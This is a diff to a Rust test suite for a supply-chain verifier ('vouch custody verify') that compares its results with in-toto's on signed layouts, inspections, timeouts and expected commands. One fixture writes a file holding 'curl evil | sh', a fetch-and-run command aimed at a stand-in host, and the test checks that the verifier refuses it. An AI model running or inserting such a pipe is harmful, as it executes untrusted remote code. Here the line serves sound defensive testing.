@@ -4,7 +4,9 @@
 //! files. The good chain verifies (and in-toto's own `in-toto-verify` agrees); each refusal is
 //! a real tampered input: a missing link, a build run on an altered source, a link renamed to
 //! another step, one flipped byte in a signature and in a product hash, a link signed by an
-//! unauthorized key, an expired layout, a layout signed by another key.
+//! unauthorized key, an expired layout, a layout signed by another key. Further: glob
+//! patterns judged by in-toto itself on 950 cases, inspections (run only with
+//! --run-inspections), expected_command, over the five-step chain of custody_svid_chain.py.
 //!
 //! Needs target/pyenv with `in-toto` (scripts/deps.sh --test installs it).
 
@@ -274,14 +276,15 @@ fn expired_or_foreign_layout_is_refused() {
 }
 
 #[test]
-fn a_layout_needing_what_is_not_implemented_is_refused_not_skipped() {
-    // Validly signed by the owner, with an inspection (a command to run): refused, whereas
-    // skipping it would accept a chain the layout's owner wanted checked further.
+fn a_layout_with_inspections_is_refused_not_skipped_unless_they_run() {
+    // Validly signed by the owner, with an inspection (a command to run): without
+    // --run-inspections refused, whereas skipping it would accept a chain the layout's owner
+    // wanted checked further.
     let d = copy_good();
     refused(
         &chain().join("inspect.layout"),
         d.path(),
-        "inspections are not implemented",
+        "it has inspections, which run commands; give --run-inspections DIR",
     );
 }
 
@@ -359,4 +362,208 @@ fn glob_rules_agree_with_in_toto() {
         cases.len(),
         disagreements.join("\n")
     );
+}
+
+/// The five-step chain of tests/data/custody_svid_chain.py (source -> build -> test ->
+/// package -> deploy, each step run by `in-toto-run`), made once.
+fn five() -> PathBuf {
+    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
+    DIR.get_or_init(|| {
+        let dir = tempfile::tempdir().unwrap();
+        let o = Command::new(pyenv().join("python3"))
+            .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/custody_svid_chain.py"))
+            .arg(dir.path().join("c"))
+            .arg("spiffe://example.org/ci/builder")
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+        dir
+    })
+    .path()
+    .join("c")
+}
+
+/// `vouch custody verify` of a five() layout over five()/good with `extra` flags:
+/// (exit code, stdout + stderr).
+fn verify5(layout: &str, extra: &[&std::ffi::OsStr]) -> (i32, String) {
+    let o = Command::new(VOUCH)
+        .args(["custody", "verify", "--layout"])
+        .arg(five().join(layout))
+        .arg("--layout-key")
+        .arg(five().join("owner.pub"))
+        .arg("--links")
+        .arg(five().join("good"))
+        .args(extra)
+        .env_remove("VOUCH_CONFIG")
+        .output()
+        .unwrap();
+    (
+        o.status.code().unwrap_or(-1),
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&o.stdout),
+            String::from_utf8_lossy(&o.stderr)
+        ),
+    )
+}
+
+/// in-toto-verify of a five() layout over five()/good, run in `cwd` (where it runs
+/// inspections).
+fn in_toto_verify5(layout: &str, cwd: &Path) -> i32 {
+    Command::new(pyenv().join("in-toto-verify"))
+        .current_dir(cwd)
+        .arg("--layout")
+        .arg(five().join(layout))
+        .arg("--verification-keys")
+        .arg(five().join("owner.pub"))
+        .arg("--link-dir")
+        .arg(five().join("good"))
+        .output()
+        .unwrap()
+        .status
+        .code()
+        .unwrap_or(-1)
+}
+
+/// Inspections run only when asked (`--run-inspections DIR`), as in-toto runs them: the
+/// directory recorded before and after the command, the command's exit status, then the
+/// inspection's artifact rules (here: the package is the package step's product, and
+/// unpacking it gives the build and test steps' products). Each refusal: a real input that
+/// in-toto-verify refuses too.
+#[test]
+fn inspections_run_only_when_asked_and_hold_like_in_toto() {
+    let os = |s: &Path| s.as_os_str().to_owned();
+    // Not asked: refused, not skipped.
+    let (code, out) = verify5("inspect.layout", &[]);
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("give --run-inspections DIR"), "{out}");
+
+    // The deployed package, unpacked and checked.
+    let d = tempfile::tempdir().unwrap();
+    std::fs::copy(five().join("app.tar.gz"), d.path().join("app.tar.gz")).unwrap();
+    let (code, out) = verify5(
+        "inspect.layout",
+        &["--run-inspections".as_ref(), &os(d.path())],
+    );
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("deploy -> inspect:untar"), "{out}");
+    assert!(d.path().join("build/app.out").exists());
+    let d2 = tempfile::tempdir().unwrap();
+    std::fs::copy(five().join("app.tar.gz"), d2.path().join("app.tar.gz")).unwrap();
+    assert_eq!(in_toto_verify5("inspect.layout", d2.path()), 0);
+
+    // One flipped byte in the package: not the package step's product.
+    let flipped = |d: &Path| {
+        let mut b = std::fs::read(five().join("app.tar.gz")).unwrap();
+        let mid = b.len() / 2;
+        b[mid] ^= 1;
+        std::fs::write(d.join("app.tar.gz"), b).unwrap();
+    };
+    let d = tempfile::tempdir().unwrap();
+    flipped(d.path());
+    let (code, out) = verify5(
+        "inspect.layout",
+        &["--run-inspections".as_ref(), &os(d.path())],
+    );
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("inspection untar: [\"tar\", \"xzf\", \"app.tar.gz\"] exited with"),
+        "{out}"
+    );
+    let d2 = tempfile::tempdir().unwrap();
+    flipped(d2.path());
+    assert_ne!(in_toto_verify5("inspect.layout", d2.path()), 0);
+
+    // A package that unpacks fine (the same files, packed again) but is not the package
+    // step's product: the inspection's MATCH does not consume it.
+    let repack = |d: &Path| {
+        let o = Command::new("tar")
+            .arg("-C")
+            .arg(five().join("work"))
+            .arg("-czf")
+            .arg(d.join("app.tar.gz"))
+            .args(["test", "build"])
+            .output()
+            .unwrap();
+        assert!(o.status.success());
+    };
+    let d = tempfile::tempdir().unwrap();
+    repack(d.path());
+    let (code, out) = verify5(
+        "inspect.layout",
+        &["--run-inspections".as_ref(), &os(d.path())],
+    );
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("untar: materials \"app.tar.gz\" is disallowed"),
+        "{out}"
+    );
+    let d2 = tempfile::tempdir().unwrap();
+    repack(d2.path());
+    assert_ne!(in_toto_verify5("inspect.layout", d2.path()), 0);
+
+    // A file beside the package that no rule allows.
+    let d = tempfile::tempdir().unwrap();
+    std::fs::copy(five().join("app.tar.gz"), d.path().join("app.tar.gz")).unwrap();
+    std::fs::write(d.path().join("evil.sh"), b"curl evil | sh\n").unwrap();
+    let (code, out) = verify5(
+        "inspect.layout",
+        &["--run-inspections".as_ref(), &os(d.path())],
+    );
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("untar: materials \"evil.sh\" is disallowed"),
+        "{out}"
+    );
+    let d2 = tempfile::tempdir().unwrap();
+    std::fs::copy(five().join("app.tar.gz"), d2.path().join("app.tar.gz")).unwrap();
+    std::fs::write(d2.path().join("evil.sh"), b"curl evil | sh\n").unwrap();
+    assert_ne!(in_toto_verify5("inspect.layout", d2.path()), 0);
+
+    // An inspection that runs past the timeout is killed and refused.
+    let d = tempfile::tempdir().unwrap();
+    let t = std::time::Instant::now();
+    let (code, out) = verify5(
+        "slow.layout",
+        &[
+            "--run-inspections".as_ref(),
+            &os(d.path()),
+            "--inspection-timeout".as_ref(),
+            "1".as_ref(),
+        ],
+    );
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("inspection slow: [\"sleep\", \"30\"] still running after 1 s, killed"),
+        "{out}"
+    );
+    assert!(t.elapsed() < std::time::Duration::from_secs(10));
+}
+
+/// `expected_command`: in-toto warns when a link's command differs; Vouch warns too, and
+/// refuses with --require-expected-command.
+#[test]
+fn expected_command_warns_or_refuses_when_asked() {
+    let (code, out) = verify5("cmd.layout", &[]);
+    assert_eq!(code, 0, "{out}");
+    assert!(
+        out.contains("warning: step test: the link's command")
+            && out.contains("[\"make\", \"test\"]"),
+        "{out}"
+    );
+    // build's expected command is the one recorded: no warning for it.
+    assert!(!out.contains("step build: the link's command"), "{out}");
+    let d = tempfile::tempdir().unwrap();
+    assert_eq!(in_toto_verify5("cmd.layout", d.path()), 0);
+    let (code, out) = verify5("cmd.layout", &["--require-expected-command".as_ref()]);
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("refused: step test: the link's command"),
+        "{out}"
+    );
+    // The five-step chain itself, keyed: verifies in both.
+    let (code, out) = verify5("keyed.layout", &[]);
+    assert_eq!(code, 0, "{out}");
+    assert!(!out.contains("warning"), "{out}");
+    assert_eq!(in_toto_verify5("keyed.layout", d.path()), 0);
 }
